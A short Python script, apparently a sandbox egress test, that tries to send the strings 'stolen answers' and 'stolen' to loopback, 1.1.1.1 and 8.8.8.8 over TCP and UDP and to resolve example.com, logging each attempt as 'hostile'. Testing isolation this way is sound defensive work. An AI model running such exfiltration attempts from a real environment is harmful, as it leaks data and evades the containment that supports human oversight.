import socket

for host, port in [("127.0.0.1", @@LOOPBACK_PORT@@), ("1.1.1.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"stolen answers")
        print("hostile: connected to", host, port)
    except OSError as exc:
        print("hostile:", host, port, exc)
try:
    print("hostile: resolved", socket.getaddrinfo("example.com", 80))
except OSError as exc:
    print("hostile: no DNS:", exc)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("8.8.8.8", 53))
except OSError as exc:
    print("hostile: no UDP:", exc)
